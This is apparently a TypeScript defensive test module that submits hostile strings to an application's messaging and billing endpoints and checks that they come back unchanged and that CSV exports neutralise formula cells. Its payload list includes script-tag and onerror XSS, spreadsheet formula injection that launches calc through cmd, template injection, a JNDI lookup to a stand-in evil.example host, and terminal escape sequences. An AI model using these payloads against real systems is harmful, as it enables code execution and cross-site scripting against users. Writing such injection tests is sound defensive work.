import { authApi, messagingApi } from '@runwen/contracts'
import type { Attack, Outcome, Target } from './target.ts'

/** Texts that would run in a page, a spreadsheet, a terminal or a log. */
const hostile = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '{{constructor.constructor("alert(1)")()}}',
  '\u0024{jndi:ldap://evil.example/a}',
  '\u202eright to left',
  'a\nlevel=fatal msg=forged',
  '</textarea><svg onload=alert(1)>',
]
/** Characters that a terminal or a parser acts on; the contract refuses them. */
const refused = ['\u001b[2J', 'nul\0', '\u0007bell', 'escape\u009b31m']

async function keepTextsHarmless(target: Target): Promise<Outcome> {
  const findings: string[] = []
  const { client } = await target.users.customer()
  let tried = 0
  for (const text of hostile) {
    tried += 1
    const { message } = await client.call(messagingApi.postMessage, { body: { content: text } })
    if (message.content !== text) findings.push(`${text} comes back as ${message.content}`)
  }
  for (const text of refused) {
    tried += 1
    const { status } = await client.send(messagingApi.postMessage, { body: { content: text } })
    if (status !== 400) findings.push(`${JSON.stringify(text)}: ${status}`)
  }
  const billing = { company: hostile[2], address: hostile[0], phone: hostile[3], tax_number: hostile[5] }
  await client.call(authApi.putBilling, { body: billing })
  const listing = await target.staff.client.raw('/api/admin/messages')
  if (!listing.headers.get('content-type')?.startsWith('application/json'))
    findings.push('messages are not JSON')
  await listing.arrayBuffer()
  return { tried, findings }
}

/** Cells of exports that a spreadsheet would run start with an apostrophe or are quoted as text. */
async function escapeExports({ users }: Target): Promise<Outcome> {
  const findings: string[] = []
  // Earlier attacks end the session of `target.staff`.
  const staff = await users.admin()
  const customer = await users.customer()
  const pages = [
    { who: customer, path: '/api/payment/statement?format=csv' },
    ...['orders', 'files', 'withdrawals', 'audit'].map((name) => ({
      who: staff,
      path: `/api/admin/${name}.csv`,
    })),
  ]
  let tried = 0
  for (const { who, path } of pages) {
    const response = await who.client.raw(path)
    const text = await response.text()
    if (response.status === 404) continue
    tried += 1
    if (response.status !== 200) findings.push(`${path}: ${response.status}`)
    if (!response.headers.get('content-disposition')?.startsWith('attachment'))
      findings.push(`${path} is not an attachment`)
    const cells = text.split(/[,\r\n]/)
    const active = cells.filter((cell) => /^"?[=@\t\r]|^"?[+-](?!\d+(?:\.\d+)?"?$)/.test(cell))
    if (active.length > 0) findings.push(`${path}: ${active[0]}`)
  }
  return { tried, findings }
}

export const textAttacks: Attack[] = [
  { name: 'hostile texts in messages and billing details', run: keepTextsHarmless },
  { name: 'hostile texts in exports', run: escapeExports },
]
